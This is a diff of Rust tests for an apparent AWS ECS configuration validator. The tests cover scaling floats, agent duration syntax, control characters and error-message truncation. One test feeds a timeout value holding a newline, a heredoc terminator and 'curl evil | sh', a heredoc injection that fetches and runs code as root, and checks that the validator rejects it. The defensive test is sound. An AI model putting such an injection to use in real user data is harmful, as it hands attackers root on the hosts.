@@ -898,6 +898,35 @@ fn scaling_thresholds() {
     );
 }
 
+/// NaN and infinity reached the Application Auto Scaling API as the strings `"NaN"` and
+/// `"inf"` (PutScalingPolicy, StepAdjustment.MetricIntervalLowerBound is a Double).
+#[test]
+fn floats_are_finite_numbers() {
+    assert_eq!(
+        scaled(|s| {
+            s.scale_out = vec![Step::new(Some(f64::NAN), None, 1)];
+            s.scale_in = vec![Step::new(Some(f64::NEG_INFINITY), Some(0.0), -1)];
+        }),
+        [
+            "error: stack `shop` › service `api` › `scaling.scale_out[0].lower`: NaN is not a \
+             number Application Auto Scaling takes; an unbounded side is `None`, a bound is a \
+             finite number",
+            "error: stack `shop` › service `api` › `scaling.scale_in[0].lower`: -inf is not a \
+             number Application Auto Scaling takes; an unbounded side is `None`, a bound is a \
+             finite number",
+        ]
+    );
+    for percent in [f64::NAN, f64::INFINITY] {
+        assert_eq!(
+            scaled(|s| *s = s.clone().scale_out_above(percent)),
+            [format!(
+                "error: stack `shop` › service `api` › `scaling.high_cpu_percent`: {percent} is \
+                 not a CPU percentage; allowed: 0 to 100"
+            )]
+        );
+    }
+}
+
 #[test]
 fn alarm_periods() {
     assert_eq!(
@@ -1390,8 +1419,39 @@ fn agent_settings() {
     assert_eq!(
         capacity(|c| c.agent_setting("ECS_INSTANCE_ATTRIBUTES", "{\"a\":\n\"b\"}")),
         ["error: stack `shop` › capacity provider `general` › \
-          `agent_settings.ECS_INSTANCE_ATTRIBUTES`: the value spans lines; /etc/ecs/ecs.config \
-          takes one line per setting"]
+          `agent_settings.ECS_INSTANCE_ATTRIBUTES`: `{\\\"a\\\":\\n\\\"b\\\"}` holds a line break \
+          or another control character; /etc/ecs/ecs.config takes one line of printable text per \
+          setting"]
+    );
+    // A carriage return or a NUL would also end up raw in the user data.
+    assert_eq!(
+        capacity(|c| c.agent_setting("ECS_LOGLEVEL", "info\r\0")).len(),
+        1
+    );
+}
+
+/// The two timeouts are written raw into the user data's ecs.config heredoc: a newline there
+/// would end the heredoc and run the rest as root at boot. The agent parses both with Go's
+/// `time.ParseDuration` (amazon-ecs-agent `agent/config/parse.go`), so that syntax is all
+/// that is accepted.
+#[test]
+fn agent_timeouts_are_go_durations() {
+    assert_eq!(
+        capacity(|c| c.task_cleanup_wait("1h30m").container_stop_timeout("90s")),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        capacity(|c| c
+            .task_cleanup_wait("1h\nECS_CONFIG\ncurl evil | sh")
+            .container_stop_timeout("30")),
+        [
+            "error: stack `shop` › capacity provider `general` › `task_cleanup_wait`: \
+             `1h\\nECS_CONFIG\\ncurl evil | sh` is not a duration the ECS agent reads: a number \
+             and a unit, `ns`, `us`, `ms`, `s`, `m` or `h`, repeated (`30s`, `1h30m`)",
+            "error: stack `shop` › capacity provider `general` › `container_stop_timeout`: `30` \
+             is not a duration the ECS agent reads: a number and a unit, `ns`, `us`, `ms`, `s`, \
+             `m` or `h`, repeated (`30s`, `1h30m`)"
+        ]
     );
 }
 
@@ -1425,7 +1485,7 @@ fn dynamic_host_ports_written_by_hand_must_agree_with_the_capacity() {
     assert_eq!(
         capacity(|c| c
             .dynamic_host_ports(1024, 65000)
-            .kernel_setting("net.ipv4.ip_local_port_range", "1024\t65000")
+            .kernel_setting("net.ipv4.ip_local_port_range", "1024   65000")
             .agent_setting("ECS_DYNAMIC_HOST_PORT_RANGE", "1024-65000")),
         Vec::<String>::new()
     );
@@ -1474,14 +1534,14 @@ fn kernel_settings() {
         [
             "error: stack `shop` › capacity provider `general` › `kernel_settings`: `net core \
           somaxconn = 4096` is not a sysctl setting: names use A-Z, a-z, 0-9, `.`, `_`, `-`, \
-          values one line"
+          values one line of printable text"
         ]
     );
     assert_eq!(
         capacity(|c| c.kernel_setting("vm.swappiness", "10\n20")),
         ["error: stack `shop` › capacity provider `general` › `kernel_settings`: `vm.swappiness \
-          = 10\n20` is not a sysctl setting: names use A-Z, a-z, 0-9, `.`, `_`, `-`, values one \
-          line"]
+          = 10\\n20` is not a sysctl setting: names use A-Z, a-z, 0-9, `.`, `_`, `-`, values one \
+          line of printable text"]
     );
 }
 
@@ -2775,7 +2835,7 @@ fn health_check_path_characters_and_length() {
     );
     assert_eq!(
         problems(|_, service| health(service).path = Some(format!("/{}", "a".repeat(1024)))),
-        ["error: stack `shop` › service `api` › `traffic.health_check.path`: `/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…` is 1025 characters; a target group health check path has at most 1024"]
+        ["error: stack `shop` › service `api` › `traffic.health_check.path`: `/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa… (825 of 1025 characters not shown) …` is 1025 characters; a target group health check path has at most 1024"]
     );
     assert_eq!(
         problems(|_, service| health(service).path = Some("/health-check?full=1&x=%7B".into())),
@@ -2900,7 +2960,7 @@ fn volume_names_are_ecs_volume_names() {
         })
     };
     assert_eq!(volume("app.data".into()), ["error: stack `shop` › service `api` › `volumes`: volume name `app.data` (8 characters, contains `.`) is not an ECS volume name: 1 to 255 of A-Z, a-z, 0-9, `_` and `-`"]);
-    assert_eq!(volume("v".repeat(256)), ["error: stack `shop` › service `api` › `volumes`: volume name `vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv…` (256 characters) is not an ECS volume name: 1 to 255 of A-Z, a-z, 0-9, `_` and `-`"]);
+    assert_eq!(volume("v".repeat(256)), ["error: stack `shop` › service `api` › `volumes`: volume name `vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv… (56 of 256 characters not shown) …` (256 characters) is not an ECS volume name: 1 to 255 of A-Z, a-z, 0-9, `_` and `-`"]);
     assert_eq!(volume("app_data-1".into()), Vec::<String>::new());
 }
 
@@ -2916,7 +2976,7 @@ fn efs_creation_token_is_at_most_64() {
         })
     };
     // `shop-api-` is 9 characters.
-    assert_eq!(volume("d".repeat(56)), ["error: stack `shop` › service `api` › `volumes.dddddddddddddddddddddddddddddddddddddddddddddddddddddddd`: the EFS creation token `shop-api-ddddddddddddddddddddddddddddddddddddddddddddddddddddddd…` (`<stack>-<service>-<volume>`) is 65 characters; EFS allows at most 64: shorten the volume or service name"]);
+    assert_eq!(volume("d".repeat(56)), ["error: stack `shop` › service `api` › `volumes.dddddddddddddddddddddddddddddddddddddddddddddddddddddddd`: the EFS creation token `shop-api-dddddddddddddddddddddddddddddddddddddddddddddddddddddddd` (`<stack>-<service>-<volume>`) is 65 characters; EFS allows at most 64: shorten the volume or service name"]);
     assert_eq!(volume("d".repeat(55)), Vec::<String>::new());
 }
 
@@ -2967,10 +3027,13 @@ fn rollback_alarm_name_too_long() {
     assert_eq!(
         alarm_messages,
         [format!(
-            "error: stack `shop` › service `{name}` › `name`: CloudWatch alarm name \
+            "error: stack `shop` › service `{shown}… (50 of 250 characters not shown) …` › `name`: \
+             CloudWatch alarm name \
              `shop-{name}-green-unhealthy` (made from the stack name `shop` and the service name \
              `{name}`) is 261 characters, AWS allows at most 255; shorten the stack name `shop` \
-             or the service name `{name}` by 6 characters"
+             or the service name `{name}` by 6 characters",
+            // The path segment ``service `…` `` is cut at 200 characters, its closing quote kept.
+            shown = "a".repeat(190),
         )]
     );
 }
